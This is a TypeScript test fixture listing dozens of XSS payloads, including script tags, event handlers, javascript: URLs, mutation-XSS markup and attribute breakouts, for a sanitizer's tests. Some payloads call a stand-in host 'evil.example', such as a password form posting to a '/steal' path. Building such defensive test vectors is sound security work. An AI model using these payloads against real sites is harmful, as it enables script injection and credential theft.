/**
 * Script-carrying markup that people might type into any field the site shows: the sanitizer's unit test runs every
 * vector through it, and browser journeys store them through real calls and open the pages that show them.
 *
 * The convention: a vector that runs sets `window.__xss` (`XSS_MARKER`), so a browser test asserts the marker stays
 * undefined and no dialog opens; a vector that would load or send something points at `XSS_EVIL_HOST`, so a test
 * asserts no request goes there. Test code only: nothing under apps/ imports this file, so pages never ship it.
 */
export const XSS_MARKER = '__xss';
export const XSS_EVIL_HOST = 'evil.example';

const X = `window.${XSS_MARKER}=1`;
const EVIL = `https://${XSS_EVIL_HOST}`;
/** `<script>window.__xss=1</script>` base64-encoded, for data: URLs */
const SCRIPT_B64 = 'PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==';

export const XSS_VECTORS: readonly string[] = [
  // script elements
  `<script>${X}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<<script>script>${X}<</script>/script>`,
  // event handlers
  `<img src=x onerror="${X}">`,
  `<img src="/media/a.png" onload=${X}>`,
  `<body onload=${X}>`,
  `<details open ontoggle=${X}>`,
  `<input autofocus onfocus=${X}>`,
  `<p onmouseover="${X}">悬停</p>`,
  `<marquee onstart=${X}>走马灯</marquee>`,
  `<x-widget onpointerenter=${X}>自定义元素</x-widget>`,
  `<video><source onerror="${X}"></video>`,
  // javascript:, data: and vbscript: addresses, in every spelling a browser still follows
  `<a href="javascript:${X}">点我</a>`,
  `<a href="JaVaScRiPt:${X}">点我</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">点我</a>`,
  `<a href="&#x6A;avascript&colon;${X}">点我</a>`,
  `<a href="jav&#x09;ascript:${X}">点我</a>`,
  `<a href=" &#10; javascript:${X}">点我</a>`,
  `<a href="&#1;javascript:${X}">点我</a>`,
  `<a href="javascript&#0000058${X}">点我</a>`,
  `<a href="vbscript:msgbox(1)">点我</a>`,
  `<a href="data:text/html;base64,${SCRIPT_B64}">数据</a>`,
  `<img src="data:image/svg+xml;base64,${SCRIPT_B64}">`,
  `<IMG SRC="javascript:${X}">`,
  `<video poster="javascript:${X}" src="/media/a.mp4"></video>`,
  // svg and math
  `<svg onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">点我</text></a></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<math href="javascript:${X}">点我</math>`,
  // frames, objects and embeds
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${XSS_MARKER}=1&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  // the page's own head and forms
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/steal"><input name="password" type="password"><button>登录</button></form>`,
  `<button formaction="javascript:${X}">提交</button>`,
  `<isindex action=javascript:${X} type=image>`,
  // styles
  `<div style="background:url(${EVIL}/bg.png)">样式</div>`,
  `<div style="width:expression(${X})">样式</div>`,
  `<style>@import '${EVIL}/i.css'; body{display:none}</style>`,
  `<p class="ant-modal-mask" style="position:fixed;inset:0">遮罩</p>`,
  `<pre><code class="language-js ant-modal-mask">代码</code></pre>`,
  `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/bg.png">表格</td></tr></table>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=import href="${EVIL}/x.html">`,
  // inert containers and raw-text parsing tricks
  `<template><img src=x onerror=${X}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${X}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${X}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${X}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${X}>">`,
  `<!--<img src="--><img src=x onerror=${X}//">`,
  `<![CDATA[<img src=x onerror=${X}>]]>`,
  // mutation XSS classics: markup that parses differently the second time
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
  `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${X}>">`,
  // breaking out of attributes and surrounding markup
  `"><script>${X}</script>`,
  `'><img src=x onerror=${X}>`,
  `<img """><script>${X}</script>">`,
  `<code class="language-js&quot; onmouseover=&quot;${X}">代码</code>`,
  `<a href="https://a.example" target="_self" rel="opener">外链</a>`,
  `</textarea><script>${X}</script>`,
  `</title><script>${X}</script>`,
  // addresses that leave our storage
  `<img src="//${XSS_EVIL_HOST}/beacon.gif">`,
  `<img src="http://${XSS_EVIL_HOST}/beacon.gif">`,
  `<img src="/media/../apis/user/auth/logout">`,
  `<a href="${EVIL}/" ping="${EVIL}/ping">外链</a>`,
  // text that only looks like markup
  '\\u003cscript\\u003e' + X + '\\u003c/script\\u003e',
  `＜script＞${X}＜/script＞`,
  `[点我](javascript:${X})`,
  `![图](javascript:${X})`,
  `\${${X}}\``,
];
